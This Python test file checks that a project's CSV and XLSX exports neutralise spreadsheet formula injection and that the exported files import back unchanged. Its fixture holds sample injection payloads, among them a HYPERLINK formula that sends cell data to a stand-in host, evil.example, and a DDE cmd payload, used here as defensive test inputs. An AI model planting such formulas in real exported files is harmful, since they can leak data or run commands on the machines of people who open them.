"""Exports never hand a spreadsheet a formula: text starting with = + - @ (or tab, CR) shows as
text in CSV and XLSX, from `xinzhi export` and from the CLI's --out; and the exported file
imports back with the original names."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pandas as pd
import pytest

from xinzhi.credit_code import make_credit_code
from xinzhi.workspace import Workspace
from xinzhi.workspace.neutralise import neutralise_text

NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
         "@SUM(1,2)", "＝1+1", "-12.5", "普通企业有限公司"]


def test_neutralise_text() -> None:
    assert neutralise_text("=1+1") == "'=1+1"
    assert neutralise_text("\t=1+1") == "'\t=1+1"
    assert neutralise_text("\r@x") == "'\r@x"
    assert neutralise_text("＠x") == "'＠x"
    assert neutralise_text("-12.5") == "-12.5"  # a plain number runs nothing
    assert neutralise_text("+3") == "+3" and neutralise_text("-4.5%") == "-4.5%"
    assert neutralise_text("-2+3") == "'-2+3"
    assert neutralise_text("企业") == "企业" and neutralise_text(5) == 5 and neutralise_text("") == ""


@pytest.fixture
def tricky(ws: Workspace) -> Workspace:
    ws.write("enterprise", pd.DataFrame({
        "credit_code": [make_credit_code("510104", i) for i in range(len(NAMES))], "name": NAMES,
        "region_code": "510104", "industry_code": "3971"}), source="test")
    return ws


def xlsx_formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        return [x for x in z.read(sheet).decode().split("<f>")[1:]]


@pytest.mark.parametrize("headers", ["en", "zh"])
def test_export_and_import_back(tricky: Workspace, tmp_path: Path, headers: str) -> None:
    before = tricky.to_pandas("enterprise")
    csv = tmp_path / "firms.csv"
    xlsx = tmp_path / "firms.xlsx"
    tricky.export("enterprise", csv, headers=headers)
    tricky.export("enterprise", xlsx, headers=headers)
    text = csv.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'+1+cmd" in text and "'-2+3" in text and "'@SUM" in text
    assert "'＝1+1" in text and ",-12.5," in text
    assert xlsx_formulas(xlsx) == []  # every name is a text cell
    for f in (csv, xlsx):
        res = tricky.import_file("enterprise", f, mode="replace")
        assert not res.changed, f"{f.name}: {res.message}"  # nothing differs from what is stored
        assert tricky.to_pandas("enterprise")["name"].tolist() == before["name"].tolist() == NAMES


def test_cli_out_files_are_neutralised(tmp_path: Path) -> None:
    from xinzhi.cli.common import write_frame

    frame = pd.DataFrame({"name": ["=1+1", "ok"], "value": [-1.0, 2.0]})
    write_frame(frame, tmp_path / "t.csv")
    write_frame(frame, tmp_path / "t.xlsx")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines() == ["name,value", "'=1+1,-1.0", "ok,2.0"]
    assert xlsx_formulas(tmp_path / "t.xlsx") == []
    from xinzhi.workspace.readers import read_file

    assert read_file(tmp_path / "t.xlsx").frame["name"].tolist() == ["=1+1", "ok"]
